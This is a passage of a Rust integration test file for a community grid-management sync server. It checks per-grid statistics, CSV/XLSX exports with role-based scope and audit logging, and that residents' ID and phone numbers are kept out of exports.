//! Figures (`GET /v1/figures`) and exports (`GET /v1/exports/{list}.{csv|xlsx}`) end to end:
//! records written by phones through sync, counted and exported from the query indexes.

use std::io::Read;

use gridbook_tests::{Phone, TestApp, TestUser};
use serde_json::Value;
use sync_core::deadline::{DAY_MS, WorkCalendar};
use sync_core::ids::ItemId;
use sync_core::ids::{DocId, UserId};
use sync_core::models::activity::{Activity, ActivityKind, OutreachForm};
use sync_core::models::asset::{Asset, AssetKind};
use sync_core::models::case::{Case, CaseAction, CaseKind, Recheck, RecheckResult, Rectification};
use sync_core::models::household::HouseholdStatus;
use sync_core::models::party::{PartyRegistration, RegistrantKind};
use sync_core::models::patrol::{Patrol, PatrolMember, PatrolRole};
use sync_core::models::visit::{Visit, VisitMethod};
use sync_core::record::{Place, Role};
use sync_core::time::Timestamp;

use crate::support::{
    at, case, event, get, get_ok, get_raw, household, household_and_identities, now,
    on_both_backends, resident_and_identity, unzip_all,
};

on_both_backends!(
    figures_match_hand_counts_per_grid_and_in_total,
    exports_follow_the_lists_filters_scope_and_are_audited,
    patrols_activities_party_registrations_and_assets_are_counted_and_listed,
    xlsx_exports_hold_no_id_number_or_phone_of_any_resident,
    the_conflict_inbox_and_the_audit_log_export_for_their_readers_only,
    hostile_text_is_neutralised_in_csv_and_stays_text_in_xlsx,
);

/// A case of `kind` in `place` opened at `t` with the given events (by the worker).
fn case_with(
    place: &Place,
    worker: &UserId,
    kind: CaseKind,
    t: Timestamp,
    actions: &[CaseAction],
) -> Case {
    let mut c = case(place, worker);
    c.case_kind = kind;
    c.opened_at = t;
    c.events = actions
        .iter()
        .enumerate()
        .map(|(i, a)| {
            event(
                worker,
                Role::GridWorker,
                *a,
                t.plus_millis(i as i64 * 60_000),
            )
        })
        .collect();
    c
}

async fn households(
    app: &TestApp,
    phone: &mut Phone,
    place: &Place,
    n: usize,
) -> anyhow::Result<Vec<DocId>> {
    let mut out = Vec::new();
    for i in 0..n {
        let h = household(place, &format!("{}", 101 + i));
        out.push(phone.replica.create(&h, at(i as i64))?);
    }
    phone.sync(app).await?;
    Ok(out)
}

fn figure(set: &Value, name: &str) -> i64 {
    set[name].as_i64().unwrap_or(-1)
}

fn find<'a>(list: &'a Value, id: &str) -> &'a Value {
    list.as_array()
        .and_then(|a| a.iter().find(|x| x["id"] == id))
        .unwrap_or(&Value::Null)
}

async fn figures_match_hand_counts_per_grid_and_in_total(app: TestApp) -> anyhow::Result<()> {
    let li = app.user("li", Role::GridWorker, app.grid_a()).await?;
    let ma = app.user("ma", Role::GridWorker, app.grid_a2()).await?;
    let zhao = app.user("zhao", Role::GridWorker, app.grid_b()).await?;
    let boss = app
        .user("boss", Role::CommunitySupervisor, app.grid_a())
        .await?;
    let street = app
        .user("street", Role::StreetSupervisor, app.grid_a())
        .await?;
    let admin = app.user("root", Role::Admin, app.grid_a()).await?;
    let t = now().plus_millis(-3 * 3_600_000);

    // ca-1: 4 households, 3 visits to 2 of them, a mediated dispute, a rectified hazard, an
    // appeal resolved on time, an appeal overdue since 2020, a service activity.
    let mut w1 = app.phone(&li).await?;
    let h1 = households(&app, &mut w1, &app.grid_a(), 4).await?;
    for (i, h) in [&h1[0], &h1[0], &h1[1]].into_iter().enumerate() {
        w1.replica.create(
            &Visit {
                attachments: Vec::new(),
                id: DocId::new(),
                place: app.grid_a(),
                household: h.clone(),
                worker: li.id.clone(),
                at: t.plus_millis(i as i64 * 60_000),
                method: VisitMethod::DoorToDoor,
                summary: "上门走访".into(),
                opened_cases: Vec::new(),
            },
            t,
        )?;
    }
    let quick = [CaseAction::QuickResolve];
    let a = app.grid_a();
    w1.replica
        .create(&case_with(&a, &li.id, CaseKind::Dispute, t, &quick), t)?;
    // The hazard is rectified on the spot and re-checked; the community verifies it by
    // calling back and closes it (below, once synced).
    let mut hazard = case_with(&a, &li.id, CaseKind::Hazard, t, &quick);
    hazard
        .attachments
        .push(crate::support::after_photo(&w1.session.device, t));
    hazard.rectification = Some(Rectification {
        measure: "清理楼道杂物".into(),
        responsible: "物业".into(),
        due: None,
        recheck: Some(Recheck {
            at: t,
            by: li.id.clone(),
            result: RecheckResult::Passed,
            note: None,
        }),
    });
    let hazard = w1.replica.create(&hazard, t)?;
    w1.replica
        .create(&case_with(&a, &li.id, CaseKind::Appeal, t, &quick), t)?;
    let old: Timestamp = "2020-06-01T09:00:00+08:00".parse()?;
    let overdue = w1.replica.create(
        &case_with(&a, &li.id, CaseKind::Appeal, old, &[CaseAction::Submit]),
        t,
    )?;
    w1.replica.create(
        &Activity {
            id: DocId::new(),
            place: app.grid_a(),
            activity_kind: ActivityKind::Service,
            outreach_form: None,
            title: "助餐服务".into(),
            at: t,
            location: String::new(),
            organizer: li.id.clone(),
            participants: Vec::new(),
            head_count: 12,
            summary: String::new(),
        },
        t,
    )?;
    w1.sync(&app).await?;
    let b = app.login(&boss).await?;
    for action in ["verify_pass", "close"] {
        let done = gridbook_tests::client::post(
            &app,
            &b.access_token,
            &format!("/v1/cases/{hazard}/actions"),
            &serde_json::json!({ "action": action }),
        )
        .await?;
        assert_eq!(done.status, 200, "{}", done.text);
    }
    // The street puts the overdue appeal under red-card supervision: counted apart from the
    // deadline's red.
    let st = app.login(&street).await?;
    let supervised = gridbook_tests::client::post(
        &app,
        &st.access_token,
        &format!("/v1/cases/{overdue}/actions"),
        &serde_json::json!({"action": "supervise", "level": "red"}),
    )
    .await?;
    assert_eq!(supervised.status, 200, "{}", supervised.text);

    // ca-2: 2 households, a hazard found and not yet rectified.
    let mut w2 = app.phone(&ma).await?;
    households(&app, &mut w2, &app.grid_a2(), 2).await?;
    w2.replica.create(
        &case_with(
            &app.grid_a2(),
            &ma.id,
            CaseKind::Hazard,
            t,
            &[CaseAction::Submit],
        ),
        t,
    )?;
    w2.sync(&app).await?;

    // cb-1: 1 household, a mediated dispute.
    let mut w3 = app.phone(&zhao).await?;
    households(&app, &mut w3, &app.grid_b(), 1).await?;
    w3.replica.create(
        &case_with(&app.grid_b(), &zhao.id, CaseKind::Dispute, t, &quick),
        t,
    )?;
    w3.sync(&app).await?;

    let sup = app.phone(&boss).await?;
    let f = get_ok(&app, &sup, "/v1/figures").await?;
    assert!(f["period"]["from"].is_string() && f["period"]["to"].is_string());
    let g1 = find(&f["grids"], "ca-1");
    for (name, want) in [
        ("disputes_mediated", 1),
        ("hazards_found", 1),
        ("hazards_rectified", 1),
        ("appeals_resolved", 1),
        ("appeals_resolved_on_time", 1),
        ("overdue_cases", 1),
        ("supervised_red", 1),
        ("supervised_yellow", 0),
        ("households", 4),
        ("households_visited", 2),
        ("visits", 3),
        ("patrols", 0),
        ("service_activities", 1),
        ("cultural_activities", 0),
        ("party_members_registered", 0),
    ] {
        assert_eq!(figure(g1, name), want, "ca-1 {name}: {g1}");
    }
    assert_eq!(g1["visit_coverage"].as_f64(), Some(0.5));
    assert_eq!(g1["community"], "ca");
    let g2 = find(&f["grids"], "ca-2");
    assert_eq!(
        [
            figure(g2, "hazards_found"),
            figure(g2, "hazards_rectified"),
            figure(g2, "households"),
            figure(g2, "households_visited"),
        ],
        [1, 0, 2, 0]
    );
    assert_eq!(g2["visit_coverage"].as_f64(), Some(0.0));
    assert!(find(&f["grids"], "cb-1").is_null(), "another community");
    let totals = &f["totals"];
    assert_eq!(figure(totals, "hazards_found"), 2);
    assert_eq!(figure(totals, "households"), 6);
    assert_eq!(figure(totals, "disputes_mediated"), 1);
    let coverage = totals["visit_coverage"].as_f64().unwrap_or(-1.0);
    assert!((coverage - 2.0 / 6.0).abs() < 1e-9, "{coverage}");
    let communities = f["communities"].as_array().map_or(0, Vec::len);
    assert_eq!(communities, 1);
    assert_eq!(find(&f["communities"], "ca")["households"], 6);

    // One grid; an older period (overdue is "now", whatever the period).
    let one = get_ok(&app, &sup, "/v1/figures?grid=ca-2").await?;
    assert_eq!(one["grids"].as_array().map_or(0, Vec::len), 1);
    assert_eq!(figure(&one["totals"], "households"), 2);
    let past = get_ok(&app, &sup, "/v1/figures?from=2020-01-01&to=2020-12-31").await?;
    assert_eq!(figure(&past["totals"], "disputes_mediated"), 0);
    assert_eq!(figure(&past["totals"], "visits"), 0);
    assert_eq!(figure(&past["totals"], "overdue_cases"), 1);

    // The street sees both communities.
    let st = app.phone(&street).await?;
    let all = get_ok(&app, &st, "/v1/figures").await?;
    assert_eq!(figure(&all["totals"], "disputes_mediated"), 2);
    assert_eq!(figure(&all["totals"], "households"), 7);
    assert_eq!(all["communities"].as_array().map_or(0, Vec::len), 2);
    assert_eq!(
        figure(find(&all["communities"], "cb"), "disputes_mediated"),
        1
    );

    // A grid worker: their grid only.
    let mine = get_ok(&app, &w1, "/v1/figures").await?;
    assert_eq!(mine["grids"].as_array().map_or(0, Vec::len), 1);
    assert_eq!(figure(&mine["totals"], "visits"), 3);

    // Scope and roles.
    for (phone, path) in [
        (&w1, "/v1/figures?grid=ca-2"),
        (&w1, "/v1/figures?community=ca"),
        (&sup, "/v1/figures?community=cb"),
        (&sup, "/v1/figures?grid=cb-1"),
    ] {
        let (status, body) = get(&app, phone, path).await?;
        assert_eq!(
            (status, body["error"]["code"].as_str()),
            (403, Some("forbidden")),
            "{path}"
        );
    }
    let root = app.phone(&admin).await?;
    assert_eq!(get(&app, &root, "/v1/figures").await?.0, 403);
    let liaison = liaison_phone(&app).await?;
    assert_eq!(get(&app, &liaison, "/v1/figures").await?.0, 403);

    // Bad parameters: 400 JSON.
    for path in [
        "/v1/figures?from=yesterday",
        "/v1/figures?to=2026-13-01",
        "/v1/figures?color=red",
        "/v1/figures?grid=bad%20id",
    ] {
        let (status, body) = get(&app, &sup, path).await?;
        assert_eq!(
            (status, body["error"]["code"].as_str()),
            (400, Some("malformed")),
            "{path}"
        );
    }
    // Two well-formed bounds that name no period: 422, not a malformed request (the OpenAPI
    // document cannot say that `from` comes first; schemathesis found the 400).
    for path in [
        "/v1/figures?from=2026-03-01&to=2026-01-01",
        "/v1/figures/timeline?from=2026-12-03T19:20:20.396Z&to=2026-11-28T08:36:04.751Z",
    ] {
        let (status, body) = get(&app, &sup, path).await?;
        assert_eq!(
            (status, body["error"]["code"].as_str()),
            (422, Some("bad_period")),
            "{path}"
        );
    }

    // The visits list by worker and by method.
    for (path, total) in [
        (format!("/v1/visits?worker={}", li.id), 3),
        (
            format!("/v1/visits?worker={}&method=door_to_door", li.id),
            3,
        ),
        (format!("/v1/visits?worker={}&method=phone", li.id), 0),
        (format!("/v1/visits?worker={}", ma.id), 0),
    ] {
        let page = get_ok(&app, &sup, &path).await?;
        assert_eq!(page["total"], total, "{path}: {page}");
    }
    Ok(())
}

async fn liaison_phone(app: &TestApp) -> anyhow::Result<Phone> {
    let user: TestUser = app
        .user_in_group("lian", Role::Liaison, app.grid_a(), Some("g1".parse()?))
        .await?;
    app.phone(&user).await
}

/// Data lines of a CSV export (after the BOM and the header line).
fn csv_lines(body: &[u8]) -> anyhow::Result<(String, Vec<String>)> {
    let text = std::str::from_utf8(body)?;
    let text = text
        .strip_prefix('\u{feff}')
        .ok_or_else(|| anyhow::anyhow!("no BOM"))?;
    let mut lines = text.lines().map(str::to_owned);
    let header = lines.next().unwrap_or_default();
    Ok((header, lines.collect()))
}

fn header_has(body: &[u8], column: &str) -> anyhow::Result<bool> {
    let (header, _) = csv_lines(body)?;
    Ok(header.split(',').any(|h| h == column))
}

async fn exports_follow_the_lists_filters_scope_and_are_audited(
    app: TestApp,
) -> anyhow::Result<()> {
    let li = app.user("li", Role::GridWorker, app.grid_a()).await?;
    let zhao = app.user("zhao", Role::GridWorker, app.grid_b()).await?;
    let boss = app
        .user("boss", Role::CommunitySupervisor, app.grid_a())
        .await?;
    let admin = app.user("root", Role::Admin, app.grid_a()).await?;
    let mut w1 = app.phone(&li).await?;
    let mut made = Vec::new();
    for (i, room) in ["101", "102", "103", "104", "105"].iter().enumerate() {
        // With its private document: the ID number and phone the exports must leave out.
        let (mut h, identities) = household_and_identities(&app.grid_a(), room);
        if *room == "105" {
            h.status = HouseholdStatus::MovedOut;
        }
        w1.create_household(&h, identities, at(i as i64))?;
        made.push(h.id);
    }
    let t = now().plus_millis(-3_600_000);
    w1.replica.create(
        &case_with(
            &app.grid_a(),
            &li.id,
            CaseKind::Dispute,
            t,
            &[CaseAction::Submit],
        ),
        t,
    )?;
    w1.replica.create(&case(&app.grid_a(), &li.id), t)?;
    w1.sync(&app).await?;
    let mut w3 = app.phone(&zhao).await?;
    households(&app, &mut w3, &app.grid_b(), 2).await?;

    let sup = app.phone(&boss).await?;
    // CSV: headers in Chinese, rows as the list, no ID or phone numbers.
    let (status, headers, body) = get_raw(&app, &sup, "/v1/exports/households.csv").await?;
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
    assert!(
        headers[reqwest::header::CONTENT_TYPE]
            .to_str()?
            .starts_with("text/csv")
    );
    let disposition = headers[reqwest::header::CONTENT_DISPOSITION].to_str()?;
    assert!(
        disposition.starts_with("attachment; filename=\"households-")
            && disposition.ends_with(".csv\""),
        "{disposition}"
    );
    let (header, rows) = csv_lines(&body)?;
    for col in ["编号", "社区", "网格", "小区", "房号", "状态", "在住人数"] {
        assert!(header.split(',').any(|h| h == col), "{col} in {header}");
    }
    let list = get_ok(&app, &sup, "/v1/households").await?;
    assert_eq!(rows.len() as i64, list["total"].as_i64().unwrap_or(-1));
    assert_eq!(rows.len(), 5);
    let text = String::from_utf8_lossy(&body);
    assert!(!text.contains("520627") && !text.contains("13800001111"));
    for id in &made {
        assert!(text.contains(&id.to_string()));
    }
    // The list's filters and sort.
    let path = "/v1/exports/households.csv?status=active&sort=-address";
    let (status, _, body) = get_raw(&app, &sup, path).await?;
    assert_eq!(status, 200);
    let (_, rows) = csv_lines(&body)?;
    let list = get_ok(&app, &sup, "/v1/households?status=active&sort=-address").await?;
    assert_eq!(rows.len() as i64, list["total"].as_i64().unwrap_or(-1));
    assert_eq!(rows.len(), 4);
    let first_id = list["items"][0]["id"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    assert!(rows[0].starts_with(&first_id), "{} vs {first_id}", rows[0]);
    let (status, _, body) = get_raw(&app, &sup, "/v1/exports/cases.csv?kind=dispute").await?;
    assert_eq!(status, 200);
    let (header, rows) = csv_lines(&body)?;
    assert!(header.contains("事由") && header.contains("状态"));
    assert_eq!(rows.len(), 1);
    assert!(rows[0].contains("矛盾纠纷"), "{}", rows[0]);
    // Lists and the record page carry place names beside the codes.
    let listed = get_ok(&app, &sup, "/v1/cases?kind=dispute").await?;
    assert_eq!(listed["items"][0]["grid"], "ca-1", "{listed}");
    assert!(
        listed["items"][0]["grid_name"]
            .as_str()
            .is_some_and(|n| n != "ca-1"),
        "{listed}"
    );
    let id = listed["items"][0]["id"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    let detail = get_ok(&app, &sup, &format!("/v1/records/{id}")).await?;
    assert_eq!(
        detail["place_names"]["grid_name"], listed["items"][0]["grid_name"],
        "{detail}"
    );
    // People and places by name, never by id or code: the reporter is 测试 li, the grid its
    // name; households by their Chinese address.
    assert!(rows[0].contains("测试 li"), "{}", rows[0]);
    assert!(!rows[0].contains(&li.id.to_string()), "{}", rows[0]);
    let (_, _, body) = get_raw(&app, &sup, "/v1/exports/households.csv").await?;
    let text = String::from_utf8_lossy(&body);
    assert!(header_has(&body, "地址")?, "{text}");
    assert!(text.contains("乌江水岸2栋1单元101室"), "{text}");

    // XLSX: a zip whose sheet has the header row and one row per household.
    let (status, headers, body) = get_raw(&app, &sup, "/v1/exports/households.xlsx").await?;
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
    assert!(
        headers[reqwest::header::CONTENT_TYPE]
            .to_str()?
            .contains("spreadsheetml")
    );
    assert!(body.starts_with(b"PK\x03\x04"), "zip signature");
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(body))?;
    let mut sheet = String::new();
    zip.by_name("xl/worksheets/sheet1.xml")?
        .read_to_string(&mut sheet)?;
    assert_eq!(sheet.matches("<row ").count(), 6, "header + 5 rows");
    assert!(sheet.contains("小区") && sheet.contains("乌江水岸"));

    // Scope: a grid worker exports their grid only; out of scope and administrators 403.
    let (status, _, body) = get_raw(&app, &w3, "/v1/exports/households.csv").await?;
    assert_eq!(status, 200);
    assert_eq!(csv_lines(&body)?.1.len(), 2);
    for (phone, path) in [
        (&sup, "/v1/exports/households.csv?community=cb"),
        (&w1, "/v1/exports/visits.xlsx?grid=cb-1"),
    ] {
        let (status, body) = get(&app, phone, path).await?;
        assert_eq!(
            (status, body["error"]["code"].as_str()),
            (403, Some("forbidden")),
            "{path}"
        );
    }
    let root = app.phone(&admin).await?;
    assert_eq!(get(&app, &root, "/v1/exports/households.csv").await?.0, 403);
    let liaison = liaison_phone(&app).await?;
    assert_eq!(get(&app, &liaison, "/v1/exports/cases.csv").await?.0, 403);

    // Bad parameters: 400 JSON; unknown lists and formats: 404 JSON.
    for path in [
        "/v1/exports/households.csv?page=2",
        "/v1/exports/households.xlsx?per_page=10",
        "/v1/exports/households.csv?status=gone",
        "/v1/exports/cases.csv?level=purple",
        "/v1/exports/assets.csv?from=2026-01-01",
        "/v1/exports/visits.csv?colour=red",
    ] {
        let (status, body) = get(&app, &sup, path).await?;
        assert_eq!(
            (status, body["error"]["code"].as_str()),
            (400, Some("malformed")),
            "{path}"
        );
    }
    for path in ["/v1/exports/people.csv", "/v1/exports/households.pdf"] {
        let (status, body) = get(&app, &sup, path).await?;
        assert_eq!(
            (status, body["error"]["code"].as_str()),
            (404, Some("not_found")),
            "{path}"
        );
    }

    // The audit log shows each export with its list, format and filters.
    let log = get_ok(&app, &root, "/v1/admin/audit?action=export&per_page=100").await?;
    let items = log["items"].as_array().cloned().unwrap_or_default();
    assert_eq!(items.len(), 6, "{log}");
    assert!(items.iter().all(|i| i["action"] == "export"));
    let filtered = items
        .iter()
        .find(|i| i["detail"]["filters"]["status"] == "active")
        .cloned()
        .unwrap_or(Value::Null);
    assert_eq!(filtered["detail"]["list"], "households");
    assert_eq!(filtered["detail"]["format"], "csv");
    assert_eq!(filtered["detail"]["filters"]["sort"], "-address");
    assert_eq!(filtered["actor_login"], "boss");
    Ok(())
}

fn patrol(place: &Place, worker: &UserId, started_at: Timestamp, route: &str) -> Patrol {
    Patrol {
        attachments: Vec::new(),
        id: DocId::new(),
        place: place.clone(),
        team: vec![
            PatrolMember {
                id: ItemId::new(),
                name: "李网格".into(),
                role: PatrolRole::GridWorker,
                user: Some(worker.clone()),
            },
            PatrolMember {
                id: ItemId::new(),
                name: "张志愿".into(),
                role: PatrolRole::Volunteer,
                user: None,
            },
        ],
        started_at,
        ended_at: Some(started_at.plus_millis(3_600_000)),
        route: route.into(),
        findings: Vec::new(),
    }
}

fn activity(
    place: &Place,
    worker: &UserId,
    kind: ActivityKind,
    at: Timestamp,
    title: &str,
) -> Activity {
    Activity {
        id: DocId::new(),
        place: place.clone(),
        activity_kind: kind,
        outreach_form: (kind == ActivityKind::Outreach).then_some(OutreachForm::CourtyardMeeting),
        title: title.into(),
        at,
        location: "社区广场".into(),
        organizer: worker.clone(),
        participants: Vec::new(),
        head_count: 25,
        summary: String::new(),
    }
}

fn registration(
    place: &Place,
    kind: RegistrantKind,
    name: &str,
    on: Timestamp,
    household: Option<DocId>,
) -> PartyRegistration {
    PartyRegistration {
        id: DocId::new(),
        place: place.clone(),
        registrant_kind: kind,
        name: name.into(),
        home_organization: "市第一中学党支部".into(),
        household,
        resident: None,
        registered_on: WorkCalendar::china().local_date(on),
        phone: Some("13912345678".into()),
        services: Vec::new(),
    }
}

fn list_ids(body: &Value) -> Vec<String> {
    body["items"]
        .as_array()
        .map(|items| {
            items
                .iter()
                .filter_map(|i| i["id"].as_str().map(str::to_owned))
                .collect()
        })
        .unwrap_or_default()
}

async fn patrols_activities_party_registrations_and_assets_are_counted_and_listed(
    app: TestApp,
) -> anyhow::Result<()> {
    let li = app.user("li", Role::GridWorker, app.grid_a()).await?;
    let ma = app.user("ma", Role::GridWorker, app.grid_a2()).await?;
    let boss = app
        .user("boss", Role::CommunitySupervisor, app.grid_a())
        .await?;
    let t = now().plus_millis(-2 * 3_600_000);
    let (a, a2) = (app.grid_a(), app.grid_a2());

    // ca-1: a patrol this year and one in 2020, a cultural and an outreach activity, a party
    // member (living in a household of the grid) and a party organisation, an asset.
    let mut w1 = app.phone(&li).await?;
    let hids = households(&app, &mut w1, &a, 1).await?;
    let p1 = w1
        .replica
        .create(&patrol(&a, &li.id, t, "乌江水岸—鼎鑫花园"), t)?;
    let old: Timestamp = "2020-06-01T20:00:00+08:00".parse()?;
    let p_old = w1.replica.create(&patrol(&a, &li.id, old, "老城区"), t)?;
    let cultural = w1.replica.create(
        &activity(&a, &li.id, ActivityKind::Cultural, t, "广场舞比赛"),
        t,
    )?;
    let outreach = w1.replica.create(
        &activity(
            &a,
            &li.id,
            ActivityKind::Outreach,
            t.plus_millis(600_000),
            "防诈骗宣讲",
        ),
        t,
    )?;
    let member = w1.replica.create(
        &registration(
            &a,
            RegistrantKind::Member,
            "王秀英",
            t.plus_millis(-DAY_MS),
            Some(hids[0].clone()),
        ),
        t,
    )?;
    let organization = w1.replica.create(
        &registration(
            &a,
            RegistrantKind::Organization,
            "区税务局党支部",
            t.plus_millis(-3 * DAY_MS),
            None,
        ),
        t,
    )?;
    let asset = w1.replica.create(
        &Asset {
            id: DocId::new(),
            place: a.clone(),
            asset_kind: AssetKind::FixedAsset,
            name: "社区活动中心".into(),
            description: "两层，含会议室".into(),
            value_fen: 120_000_000,
            leases: Vec::new(),
            ledger: Vec::new(),
        },
        t,
    )?;
    w1.sync(&app).await?;
    // ca-2: one patrol.
    let mut w2 = app.phone(&ma).await?;
    let p2 = w2
        .replica
        .create(&patrol(&a2, &ma.id, t.plus_millis(-60_000), "沿江路"), t)?;
    w2.sync(&app).await?;

    let sup = app.phone(&boss).await?;
    let f = get_ok(&app, &sup, "/v1/figures").await?;
    let g1 = find(&f["grids"], "ca-1");
    for (name, want) in [
        ("patrols", 1),
        ("cultural_activities", 1),
        ("outreach_activities", 1),
        ("service_activities", 0),
        ("party_members_registered", 1),
        ("party_organizations_registered", 1),
        ("households", 1),
    ] {
        assert_eq!(figure(g1, name), want, "ca-1 {name}: {g1}");
    }
    let g2 = find(&f["grids"], "ca-2");
    assert_eq!(
        [
            figure(g2, "patrols"),
            figure(g2, "cultural_activities"),
            figure(g2, "party_members_registered"),
        ],
        [1, 0, 0],
        "{g2}"
    );
    let totals = &f["totals"];
    assert_eq!(figure(totals, "patrols"), 2, "{totals}");
    assert_eq!(figure(totals, "outreach_activities"), 1, "{totals}");
    assert_eq!(figure(totals, "party_members_registered"), 1, "{totals}");
    assert_eq!(figure(find(&f["communities"], "ca"), "patrols"), 2);
    // The 2020 patrol counts in its own period only.
    let past = get_ok(&app, &sup, "/v1/figures?from=2020-01-01&to=2020-12-31").await?;
    assert_eq!(figure(&past["totals"], "patrols"), 1);
    assert_eq!(figure(&past["totals"], "cultural_activities"), 0);
    assert_eq!(figure(&past["totals"], "party_members_registered"), 0);

    // The lists return exactly those records.
    let patrols = get_ok(&app, &sup, "/v1/patrols").await?;
    assert_eq!(
        list_ids(&patrols),
        [&p1, &p2, &p_old].map(ToString::to_string),
        "newest first"
    );
    let first = &patrols["items"][0];
    assert_eq!(first["team_size"], 2, "{first}");
    assert_eq!(first["label"], "乌江水岸—鼎鑫花园");
    assert_eq!(first["grid"], "ca-1");
    assert_eq!(first["at"], t.to_string());
    let ca1 = get_ok(&app, &sup, "/v1/patrols?grid=ca-1&from=2026-01-01").await?;
    assert_eq!(list_ids(&ca1), [p1.to_string()]);
    let acts = get_ok(&app, &sup, "/v1/activities").await?;
    assert_eq!(
        list_ids(&acts),
        [&outreach, &cultural].map(ToString::to_string)
    );
    assert_eq!(acts["items"][0]["activity_kind"], "outreach");
    assert_eq!(acts["items"][1]["activity_kind"], "cultural");
    let regs = get_ok(&app, &sup, "/v1/party-registrations").await?;
    assert_eq!(
        list_ids(&regs),
        [&member, &organization].map(ToString::to_string)
    );
    assert_eq!(regs["items"][0]["registrant_kind"], "member");
    assert_eq!(regs["items"][0]["household"], hids[0].to_string());
    assert_eq!(regs["items"][0]["label"], "王秀英");
    assert_eq!(regs["items"][1]["registrant_kind"], "organization");
    assert!(
        !regs.to_string().contains("13912345678"),
        "no phone in a list"
    );
    let assets = get_ok(&app, &sup, "/v1/assets").await?;
    assert_eq!(list_ids(&assets), [asset.to_string()]);
    assert_eq!(assets["items"][0]["asset_kind"], "fixed_asset");
    assert_eq!(assets["items"][0]["label"], "社区活动中心");
    assert!(
        assets["items"][0].get("at").is_none(),
        "assets have no date"
    );
    let none = get_ok(&app, &sup, "/v1/assets?grid=ca-2").await?;
    assert_eq!(
        (none["total"].as_i64(), list_ids(&none).len()),
        (Some(0), 0)
    );

    // The kind-specific filters pick exactly their records.
    for (path, expected) in [
        (
            "/v1/activities?activity_kind=cultural",
            vec![cultural.to_string()],
        ),
        ("/v1/activities?activity_kind=service", vec![]),
        (
            &format!("/v1/activities?organizer={}", li.id),
            vec![outreach.to_string(), cultural.to_string()],
        ),
        (&format!("/v1/activities?organizer={}", ma.id), vec![]),
        (
            "/v1/party-registrations?registrant_kind=organization",
            vec![organization.to_string()],
        ),
        ("/v1/assets?asset_kind=fixed_asset", vec![asset.to_string()]),
        ("/v1/assets?asset_kind=fund", vec![]),
    ] {
        let page = get_ok(&app, &sup, path).await?;
        assert_eq!(list_ids(&page), expected, "{path}");
    }
    // A filter of another list, or a value its type does not know, is 400.
    for path in [
        "/v1/activities?method=phone",
        "/v1/assets?activity_kind=cultural",
        "/v1/activities?activity_kind=party",
        "/v1/visits?worker=nobody",
        "/v1/exports/assets.csv?asset_kind=gold",
    ] {
        let (status, body) = get(&app, &sup, path).await?;
        assert_eq!(
            (status, body["error"]["code"].as_str()),
            (400, Some("malformed")),
            "{path}: {body}"
        );
    }
    Ok(())
}

async fn xlsx_exports_hold_no_id_number_or_phone_of_any_resident(
    app: TestApp,
) -> anyhow::Result<()> {
    let li = app.user("li", Role::GridWorker, app.grid_a()).await?;
    let zhao = app.user("zhao", Role::GridWorker, app.grid_b()).await?;
    let boss = app
        .user("boss", Role::CommunitySupervisor, app.grid_a())
        .await?;
    let street = app
        .user("street", Role::StreetSupervisor, app.grid_a())
        .await?;
    let mut secrets: Vec<String> = Vec::new();
    let mut made: Vec<(DocId, String)> = Vec::new();
    for (user, place, rooms, phones) in [
        (
            &li,
            app.grid_a(),
            ["301", "302"],
            ["13912345678", "13787654321"],
        ),
        (
            &zhao,
            app.grid_b(),
            ["101", "102"],
            ["13655556666", "15011112222"],
        ),
    ] {
        let mut w = app.phone(user).await?;
        for (i, (room, phone)) in rooms.iter().zip(phones).enumerate() {
            let (mut h, mut identities) = household_and_identities(&place, room);
            identities[0].phone = Some(phone.into());
            let (son, mut son_identity) = resident_and_identity("王小明", &format!("198{i}0607"));
            son_identity.phone = Some(format!("1770000{i}{}", &room[..3]));
            h.residents.push(son);
            identities.push(son_identity);
            for r in &identities {
                secrets.extend(r.id_number.clone());
                secrets.extend(r.phone.clone());
            }
            let first = identities[0].id_number.clone().unwrap_or_default();
            w.create_household(&h, identities, at(i as i64))?;
            made.push((h.id.clone(), first));
        }
        let mut reg = registration(
            &place,
            RegistrantKind::Member,
            "王秀英",
            now().plus_millis(-DAY_MS),
            Some(made[made.len() - 1].0.clone()),
        );
        reg.phone = Some(format!("18600001{}", rooms[0]));
        secrets.extend(reg.phone.clone());
        w.replica.create(&reg, at(9))?;
        w.sync(&app).await?;
    }
    assert_eq!(secrets.len(), 4 * 4 + 2);

    let sup = app.phone(&boss).await?;
    let st = app.phone(&street).await?;
    // The records hold the values: the record detail shows them masked.
    let (id, id_number) = &made[0];
    let detail = get_ok(&app, &sup, &format!("/v1/records/{id}")).await?;
    let r0 = &detail["record"]["residents"][0];
    assert_eq!(r0["phone"], "*******5678", "{detail}");
    assert_eq!(
        r0["id_number"],
        format!("{}***********{}", &id_number[..6], &id_number[17..])
    );

    for (phone, path, rows) in [
        (&sup, "/v1/exports/households.xlsx?community=ca", 2),
        (&st, "/v1/exports/households.xlsx", 4),
        (
            &st,
            "/v1/exports/households.xlsx?community=cb&sort=-address",
            2,
        ),
        (&st, "/v1/exports/party-registrations.xlsx", 2),
    ] {
        let (status, headers, body) = get_raw(&app, phone, path).await?;
        assert_eq!(status, 200, "{path}: {}", String::from_utf8_lossy(&body));
        assert!(
            headers[reqwest::header::CONTENT_TYPE]
                .to_str()?
                .contains("spreadsheetml"),
            "{path}"
        );
        let text = unzip_all(body)?;
        assert_eq!(
            text.matches("<row ").count(),
            rows + 1,
            "{path}: header + rows"
        );
        for secret in &secrets {
            assert!(!text.contains(secret.as_str()), "{path}: {secret} exported");
        }
        if path.contains("households") {
            // Each exported household is there, with its two residents counted.
            for (i, (id, _)) in made.iter().enumerate() {
                let community = if i < 2 {
                    "community=ca"
                } else {
                    "community=cb"
                };
                let expected = !path.contains("community=") || path.contains(community);
                assert_eq!(text.contains(&id.to_string()), expected, "{path}: {id}");
            }
        }
    }
    Ok(())
}

/// Two phones of `user` write `notes` of a new household of `place` concurrently: a conflict.
async fn conflicted_household(
    app: &TestApp,
    user: &TestUser,
    place: &Place,
) -> anyhow::Result<DocId> {
    let mut p1 = app.phone(user).await?;
    let mut p2 = app.phone(user).await?;
    let id = p1.replica.create(&household(place, "601"), at(0))?;
    p1.sync(app).await?;
    p2.sync(app).await?;
    for (p, note) in [(&mut p1, "一楼漏水"), (&mut p2, "二楼漏水")] {
        p.replica.update(
            &id,
            at(1),
            |h: &mut sync_core::models::household::Household| {
                h.notes = note.into();
            },
        )?;
        p.sync(app).await?;
    }
